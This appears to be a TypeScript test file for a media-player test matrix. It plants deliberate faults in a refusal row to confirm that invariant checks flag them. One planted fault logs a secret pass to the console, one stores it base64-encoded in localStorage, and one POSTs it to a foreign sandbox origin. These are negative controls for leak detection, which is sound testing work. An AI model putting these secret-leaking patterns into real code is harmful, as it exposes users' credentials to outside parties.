import { breachesIn } from './harness/invariants.ts';
import type { Invariant } from './harness/invariants.ts';
import { expect, test } from './harness/test.ts';
import { playMediaRow } from './play/play-media-row.ts';
import type { MediaRow } from './rows/media-row.ts';
import { REFUSAL_ROWS } from './rows/refusal-rows.ts';
import type { MatrixStage } from './stage/start-matrix-stage.ts';
import type { Tab } from '../stage/tab.ts';

/** Something that goes wrong in the middle of a row that else is kept. */
interface Planted {
  readonly what: string;
  readonly breaks: Invariant;
  /** The row with it. */
  plant(row: MediaRow, stage: MatrixStage, tab: Tab): MediaRow;
  /** What the row is played on, where that is not the stage. */
  readonly on?: (stage: MatrixStage) => MatrixStage;
}

/** Does something in the page while the row is played. */
const inThePage = (row: MediaRow, deed: () => Promise<void>): MediaRow => ({
  ...row,
  meanwhile: async () => {
    await deed();
    return undefined;
  },
});

const passOf = (stage: MatrixStage): string => stage.secrets()[0] ?? '';

const PLANTED: readonly Planted[] = [
  {
    what: 'a pass on the console',
    breaks: 'leak',
    plant: (row, stage, tab) =>
      inThePage(row, () => tab.evaluate((pass) => console.log({ pass }), passOf(stage))),
  },
  {
    what: 'a pass in the storage, encoded',
    breaks: 'leak',
    plant: (row, stage, tab) =>
      inThePage(row, () =>
        tab.evaluate((pass) => localStorage.setItem('kept', btoa(pass)), passOf(stage)),
      ),
  },
  {
    what: 'a pass at an origin that is none of its own',
    breaks: 'leak',
    plant: (row, stage, tab) =>
      inThePage(row, () =>
        tab.evaluate(
          ([url, pass]) =>
            fetch(url, { method: 'POST', body: pass, mode: 'no-cors' }).then(() => undefined),
          [stage.sandbox.addresses.foreign, passOf(stage)] as const,
        ),
      ),
  },
  {
    what: 'a request that is repeated at once',
    breaks: 'loop',
    plant: (row, stage, tab) =>
      inThePage(row, () =>
        tab.evaluate(async (url) => {
          for (let i = 0; i < 2; i += 1) await fetch(url);
        }, stage.film('bearer/long-film')),
      ),
  },
  {
    what: 'another code than the row’s',
    breaks: 'exact',
    plant: (row) => ({
      ...row,
      fault: async (stage) => {
        await row.fault(stage);
        stage.backend.says = 'sign in';
      },
    }),
  },
  {
    what: 'a backend that goes on saying no',
    breaks: 'recover',
    plant: (row, stage) => ({ ...row, recoversInMs: 2000, fault: () => row.fault(stage) }),
    on: (stage) => ({ ...stage, backend: { ...stage.backend } }),
  },
];

const row = REFUSAL_ROWS.find(({ id }) => id === 'M6');

for (const { what, breaks, plant, on = (stage: MatrixStage) => stage } of PLANTED)
  test(`control of ${breaks}: ${what}`, async ({ faults: stage, matrix: page, tab }) => {
    if (row === undefined) throw new Error('There is no row M6.');
    const place = { stage: on(stage), page, engine: 'videojs' } as const;
    const breaches = breachesIn(await playMediaRow(plant(row, stage, tab), place));
    expect(breaches.length).toBeGreaterThan(0);
    expect(new Set(breaches.map(({ invariant }) => invariant))).toEqual(new Set([breaks]));
  });
